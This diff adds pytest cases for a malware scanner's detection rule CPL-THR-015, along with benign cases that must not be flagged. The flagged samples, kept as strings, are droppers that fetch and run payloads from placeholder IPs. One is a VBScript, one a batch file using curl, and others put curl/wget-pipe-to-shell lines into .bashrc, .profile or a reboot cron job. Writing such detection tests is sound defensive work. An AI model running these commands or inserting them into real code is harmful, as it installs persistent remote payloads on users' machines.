@@ -435,3 +435,121 @@ def test_a_start_up_file_written_with_harmless_text_is_no_persistence() -> None:
         f.write("import sys\\nsys.dont_write_bytecode = True\\n")
     """
     assert "CPL-THR-009" not in anywhere(source)
+
+
+# -- blind14: a script of another language kept in a string, written and started -------------
+
+_SCRIPT_WRITTEN = {
+    "vbs-wscript-exe": """
+    import os, subprocess, tempfile
+    VBS = ('Set o = CreateObject("MSXML2.XMLHTTP")\\n'
+           'o.Open "GET", "http://198.51.100.201/p", False\\n'
+           'o.Send\\n'
+           'CreateObject("WScript.Shell").Run "cmd /c %TEMP%\\\\p.exe", 0\\n')
+    p = os.path.join(tempfile.gettempdir(), "p.vbs")
+    with open(p, "w") as fh:
+        fh.write(VBS)
+    subprocess.Popen(["wscript.exe", "//B", p])
+    """,
+    "batch-cmd-c": """
+    import os, subprocess
+    BAT = ('@echo off\\r\\ncurl -s -o "%TEMP%\\\\u.exe" http://198.51.100.9/u.exe\\r\\n'
+           'start "" /b "%TEMP%\\\\u.exe"\\r\\n')
+    p = os.path.join(os.environ["TEMP"], "u.cmd")
+    with open(p, "w") as fh:
+        fh.write(BAT)
+    subprocess.call(["cmd.exe", "/c", p])
+    """,
+}
+
+
+@pytest.mark.parametrize("shape", sorted(_SCRIPT_WRITTEN))
+@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
+def test_a_script_dropper_kept_in_a_string_written_and_started_is_a_threat(
+    shape: str, mode: ScanMode
+) -> None:
+    found = scan_source(textwrap.dedent(_SCRIPT_WRITTEN[shape]), "mod.py", mode=mode)
+    assert "CPL-THR-015" in {f.rule_id for f in found if f.severity is Severity.DANGER}
+
+
+@pytest.mark.parametrize("shape", sorted(_SCRIPT_WRITTEN))
+def test_the_prefilter_keeps_a_script_dropper_written_and_started(
+    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    source = textwrap.dedent(_SCRIPT_WRITTEN[shape])
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-015")
+
+
+def test_a_script_written_and_started_that_fetches_nothing_is_no_threat() -> None:
+    # a build helper writing a batch file that calls the compiler, and a VBScript that
+    # shows a message box: started, but neither downloads anything
+    source = """
+    import os, subprocess, tempfile
+    p = os.path.join(tempfile.gettempdir(), "build.cmd")
+    with open(p, "w") as fh:
+        fh.write('@echo off\\r\\ncall "%VCVARS%" x64\\r\\ncl /c module.c\\r\\n')
+    subprocess.check_call(["cmd.exe", "/c", p])
+    v = os.path.join(tempfile.gettempdir(), "msg.vbs")
+    with open(v, "w") as fh:
+        fh.write('CreateObject("WScript.Shell").Popup "Build done", 5\\n')
+    subprocess.call(["wscript.exe", "//B", v])
+    """
+    assert {r for r in anywhere(source) if r.startswith("CPL-THR")} == set()
+
+
+# -- blind14: a download-and-run line put into a shell's start-up file or a cron job ----------
+
+_COMMAND_PERSISTED = {
+    "rc-pathlib-loop": """
+    from pathlib import Path
+    LINE = "\\n( curl -fsSL http://198.51.100.23/i.sh | sh ) >/dev/null 2>&1 &\\n"
+    for rc in (".bashrc", ".zshrc"):
+        p = Path.home() / rc
+        with p.open("a") as fh:
+            fh.write(LINE)
+    """,
+    "rc-path-open": """
+    from pathlib import Path
+    with (Path.home() / ".profile").open("a") as fh:
+        fh.write("wget -qO- http://198.51.100.24/p | bash\\n")
+    """,
+    "python-crontab": """
+    from crontab import CronTab
+    cron = CronTab(user=True)
+    job = cron.new(command="curl -s http://198.51.100.25/c | sh", comment="upd")
+    job.every_reboot()
+    cron.write()
+    """,
+}
+
+
+@pytest.mark.parametrize("shape", sorted(_COMMAND_PERSISTED))
+@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
+def test_a_download_run_by_every_shell_or_by_cron_is_a_threat(shape: str, mode: ScanMode) -> None:
+    found = scan_source(textwrap.dedent(_COMMAND_PERSISTED[shape]), "mod.py", mode=mode)
+    assert "CPL-THR-015" in {f.rule_id for f in found if f.severity is Severity.DANGER}
+
+
+@pytest.mark.parametrize("shape", sorted(_COMMAND_PERSISTED))
+def test_the_prefilter_keeps_a_download_persisted_as_a_command(
+    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    source = textwrap.dedent(_COMMAND_PERSISTED[shape])
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-015")
+
+
+def test_a_completion_line_or_a_local_cron_job_is_no_threat() -> None:
+    # a completion installer's source line appended through Path.open, a backup job that
+    # runs a local program, and a download kept as data by a cron job
+    source = """
+    from pathlib import Path
+    from crontab import CronTab
+    for rc in (".bashrc", ".zshrc"):
+        with (Path.home() / rc).open("a") as fh:
+            fh.write("\\nsource ~/.local/share/mytool/completion.sh\\n")
+    cron = CronTab(user=True)
+    cron.new(command="/usr/local/bin/backup --quiet", comment="backup").setall("0 3 * * *")
+    cron.new(command="curl -s -o /var/tmp/feed.xml https://example.org/feed.xml")
+    cron.write()
+    """
+    assert {r for r in anywhere(source) if r.startswith("CPL-THR")} == set()
